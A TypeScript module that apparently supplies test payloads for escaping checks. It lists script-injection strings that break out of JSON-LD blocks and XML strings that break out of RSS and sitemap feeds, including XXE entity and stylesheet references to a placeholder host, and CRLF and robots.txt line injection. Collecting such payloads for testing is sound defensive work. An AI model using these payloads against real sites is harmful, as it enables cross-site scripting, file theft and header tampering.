/** Texts that end the JSON-LD or XML around them; see `payloads.ts`. */

export const JSON_LD_BREAKOUTS = [
  '</script><script>RUN</script>',
  '</script ><img src=x onerror=RUN>',
  '<!--<script>RUN</script>',
  ']]></script><script>RUN</script>',
  '"}]}</script><script>RUN</script>',
  '"}]};RUN;//',
  '\\</script><script>RUN</script>',
  '"@type":"Thing","url":"javascript:RUN"',
  "';RUN;//",
] as const

export const FEED_BREAKOUTS = [
  ']]><script>RUN</script>',
  ']]>]]&gt;<![CDATA[<script>RUN</script>]]>',
  '</content:encoded><script>RUN</script>',
  '</title></item></channel></rss><script>RUN</script>',
  '</loc></url></urlset><script>RUN</script>',
  '<?xml-stylesheet href="//HOST/x.xsl"?>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "//HOST">]>&e;',
  '&e;&xxe;&nbsp;RUN',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>',
  '\nUser-agent: *\nDisallow: /\n# RUN',
  '\r\nSet-Cookie: x=RUN\r\n\r\n<script>RUN</script>',
  'x\nSitemap: https://HOST/sitemap.xml',
] as const
